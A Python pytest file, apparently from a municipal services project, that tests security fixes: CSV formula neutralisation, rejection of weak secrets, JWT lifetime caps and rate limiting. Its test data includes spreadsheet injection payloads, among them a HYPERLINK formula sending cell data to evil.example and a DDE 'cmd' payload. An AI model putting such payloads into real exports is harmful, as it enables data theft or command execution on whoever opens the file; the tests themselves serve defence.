"""Issue 13: CSV formula cells, secrets with little entropy, token lifetimes (no running system)."""

import csv
import io
import time
import uuid
from datetime import date
from decimal import Decimal
from types import SimpleNamespace

import jwt
import pytest

from shared.auth import ALGORITHM, ISSUER, InvalidToken, MAX_TOKEN_LIFETIME, decode_token, issue_token
from shared.config import ConfigurationError, check_secret, distributed_settings
from shared.spreadsheet import neutralise

SECRET = "unit-test-Kx9vQ2mLp7Zr4Tn8Vb3Kd6Hs1Fw5Jy0Gc"
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


# ---------------------------------------------------------------- CSV exports

def test_neutralise_prefixes_formula_like_text_only():
    for text in FORMULAS:
        assert neutralise(text) == "'" + text
    assert neutralise("Rūta Petraitienė") == "Rūta Petraitienė" and neutralise("") == ""
    assert neutralise(-5) == -5 and neutralise(Decimal("-5.00")) == Decimal("-5.00")


def test_the_hours_csv_neutralises_formula_cells():
    from services.enrollment.views import csv_response

    response = csv_response("hours.csv", ["name", "email", "hours"],
                            [[text, "a@kaunas.lt", Decimal("4.0")] for text in FORMULAS])
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert all(row[2] == "4.0" for row in rows[1:])


def test_the_applications_csv_neutralises_formula_cells():
    from services.grants.views import applications_csv, report_csv
    from services.grants.domain.reports import ReportRow

    call = SimpleNamespace(code="=cmd|' /C calc'!A0", funder="@funder", closes_on=date(2027, 2, 26))
    application = SimpleNamespace(
        id=uuid.uuid4(), municipality_code="15", title={"lt": "=1+1", "en": "-1"}, themes=["budgeting"],
        status="draft", total_eligible_cost_eur=Decimal("-100.00"), requested_grant_eur=Decimal("80.00"),
        own_contribution_eur=Decimal("20.00"), internal_deadline=None, partner_status="+x", submitted_on=None,
        decided_on=None, awarded_grant_eur=None, final_cost_eur=None, final_grant_eur=None, completed_on=None)
    row = next(csv.DictReader(io.StringIO(applications_csv([(application, call)]), newline="")))
    assert (row["call_code"], row["funder"], row["title_lt"], row["title_en"], row["partner_status"]) == (
        "'=cmd|' /C calc'!A0", "'@funder", "'=1+1", "'-1", "'+x")
    assert row["total_eligible_cost_eur"] == "-100.00"  # a number stays a number
    report = report_csv("funder", [ReportRow(group="=evil()")], ReportRow(group="total"))
    assert "\r\n'=evil()," in report


# ---------------------------------------------------------------- secrets

GOOD = {
    "SAVIVALDA_AMQP_URI": "amqp://u:p@rabbit:5672/savivalda",
    "SAVIVALDA_ENROLLMENT_DATABASE_URL": "postgresql+psycopg2://e@db/enrollment",
}


@pytest.mark.parametrize("secret", [
    "abcdefghabcdefghabcdefghabcdefgh",          # the finding: 32 characters, one 8-character pattern
    "Kaunas2026!Kaunas2026!Kaunas2026!",         # a word repeated
    "abcdefghijklmnopqrstuvwxyz012345",          # the alphabet
    "qwertyuiopasdfghjklzxcvbnm123456",          # the keyboard
    "a" * 31 + "bcdefghij",                      # one character, almost always
])
def test_distributed_mode_refuses_low_entropy_secrets(secret):
    with pytest.raises(ConfigurationError, match="SAVIVALDA_AUTH_SECRET"):
        distributed_settings(("enrollment",), dict(GOOD, SAVIVALDA_AUTH_SECRET=secret))


def test_random_secrets_of_the_documented_kinds_are_accepted():
    import secrets

    for _ in range(300):
        for made in (secrets.token_urlsafe(48), secrets.token_urlsafe(24), secrets.token_hex(16), secrets.token_hex(32)):
            assert check_secret(made) == made


# ---------------------------------------------------------------- token lifetimes

def test_issuing_refuses_a_lifetime_beyond_the_role_maximum():
    assert MAX_TOKEN_LIFETIME["operator"] <= 86400 < MAX_TOKEN_LIFETIME["staff"] <= 30 * 86400
    decode_token(SECRET, issue_token(SECRET, subject="o", role="operator", ttl_seconds=86400))
    decode_token(SECRET, issue_token(SECRET, subject="s", role="staff", ttl_seconds=30 * 86400))
    with pytest.raises(ValueError, match="operator token may live at most 1d"):
        issue_token(SECRET, subject="o", role="operator", ttl_seconds=86400 + 1)
    with pytest.raises(ValueError, match="at most 30d"):
        issue_token(SECRET, subject="m", role="municipality:15", ttl_seconds=31 * 86400)
    with pytest.raises(ValueError, match="at most 2h"):
        issue_token(SECRET, subject="s", role="staff", ttl_seconds=3 * 3600, max_lifetimes={"staff": 7200})


def test_decoding_refuses_a_token_that_lives_too_long_even_when_well_signed():
    now = int(time.time())
    forever = jwt.encode({"iss": ISSUER, "sub": "x", "role": "staff", "iat": now, "exp": 253402300799},  # year 9999
                         SECRET, algorithm=ALGORITHM)
    with pytest.raises(InvalidToken, match="lives longer"):
        decode_token(SECRET, forever)
    no_iat = jwt.encode({"iss": ISSUER, "sub": "x", "role": "operator", "exp": now + 2 * 86400}, SECRET,
                        algorithm=ALGORITHM)
    with pytest.raises(InvalidToken, match="lives longer"):
        decode_token(SECRET, no_iat)
    week = issue_token(SECRET, subject="x", role="staff", ttl_seconds=7 * 86400)
    assert decode_token(SECRET, week).role == "staff"
    with pytest.raises(InvalidToken, match="lives longer"):
        decode_token(SECRET, week, max_lifetimes={"staff": 86400})


# ---------------------------------------------------------------- rate limits

def test_token_buckets_allow_a_burst_then_one_request_per_interval():
    from shared.ratelimit import TokenBuckets, parse_rate_limit

    now = [1000.0]
    buckets = TokenBuckets(parse_rate_limit("3/minute"), clock=lambda: now[0])
    assert [buckets.take("a") for _ in range(3)] == [0, 0, 0]
    assert buckets.take("a") == pytest.approx(20.0)  # one token every 20 s
    assert buckets.take("b") == 0  # another client, its own bucket
    now[0] += 20
    assert buckets.take("a") == 0 and buckets.take("a") > 0


def test_rate_limits_parse_and_refuse_nonsense():
    from shared.ratelimit import parse_rate_limit

    assert str(parse_rate_limit("10/min")) == "10/minute" and parse_rate_limit("off") is None
    for bad in ("ten/minute", "10/fortnight", "0/minute", "10"):
        with pytest.raises(ValueError):
            parse_rate_limit(bad)
    with pytest.raises(ConfigurationError, match="PUBLIC_RATE_LIMIT"):
        distributed_settings(("enrollment",), dict(GOOD, SAVIVALDA_AUTH_SECRET=SECRET, SAVIVALDA_PUBLIC_RATE_LIMIT="x"))
    with pytest.raises(ConfigurationError, match="TRUSTED_PROXIES"):
        distributed_settings(("enrollment",), dict(GOOD, SAVIVALDA_AUTH_SECRET=SECRET, SAVIVALDA_TRUSTED_PROXIES="gw"))
    with pytest.raises(ConfigurationError, match="TOKEN_MAX_TTL"):
        distributed_settings(("enrollment",), dict(GOOD, SAVIVALDA_AUTH_SECRET=SECRET, SAVIVALDA_TOKEN_MAX_TTL="root=1d"))


def test_the_client_is_the_remote_address_unless_a_trusted_proxy_forwarded_the_request():
    from shared.ratelimit import client_address

    direct = {"REMOTE_ADDR": "203.0.113.7", "HTTP_X_FORWARDED_FOR": "198.51.100.1"}
    assert client_address(direct) == "203.0.113.7"
    assert client_address(direct, ("10.0.0.0/8",)) == "203.0.113.7"  # not from the proxy: header ignored
    proxied = {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_FORWARDED_FOR": "1.2.3.4, 198.51.100.1"}
    assert client_address(proxied, ("10.0.0.0/8",)) == "198.51.100.1"  # the hop the proxy added, not the forged one
    chained = {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_FORWARDED_FOR": "198.51.100.1, 10.0.0.9"}
    assert client_address(chained, ("10.0.0.0/8",)) == "198.51.100.1"
